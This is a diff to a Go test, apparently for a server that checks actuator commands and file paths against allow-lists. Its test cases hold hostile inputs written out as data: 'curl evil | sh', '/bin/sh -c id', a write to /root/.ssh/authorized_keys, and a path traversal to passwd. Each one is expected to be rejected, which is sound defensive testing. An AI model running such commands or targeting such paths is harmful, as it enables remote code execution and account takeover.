@@ -196,10 +196,10 @@ telemetry: {prometheus: {url: "http://127.0.0.1:9090"}, queries: {cost: "cost{co
 	h := New(nil, nil, Options{Auth: allRoles, Commands: []string{"/usr/local/bin/apply-config"}, FileDirs: []string{"/etc/svc"}})
 	for _, tt := range []struct{ actuator, want string }{
 		{`{command: {argv: [/bin/sh, -c, "curl evil | sh"]}}`, `actuator.command.argv[0]: "/bin/sh" is not on the server's allow-list`},
-		{`{command: {argv: [apply-config]}}`, `"apply-config" is not on the server's allow-list`},
+		{`{command: {argv: [/usr/bin/apply-config]}}`, `"/usr/bin/apply-config" is not on the server's allow-list`},
+		{`{file: {path: /etc/svc/conf.yaml, argv: [/bin/sh, -c, id]}}`, `actuator.file.argv[0]: "/bin/sh" is not on the server's allow-list`},
 		{`{file: {path: /root/.ssh/authorized_keys}}`, `actuator.file.path: "/root/.ssh/authorized_keys" is not under a directory the server allows`},
 		{`{file: {path: /etc/svc/../passwd}}`, "is not under a directory the server allows"},
-		{`{file: {path: etc/svc/conf.yaml}}`, "is not under a directory the server allows"},
 	} {
 		req := httptest.NewRequest(http.MethodPut, "/v1/targets/svc", strings.NewReader(base+"actuator: "+tt.actuator+"\n"))
 		req.Header.Set("Content-Type", "application/yaml")
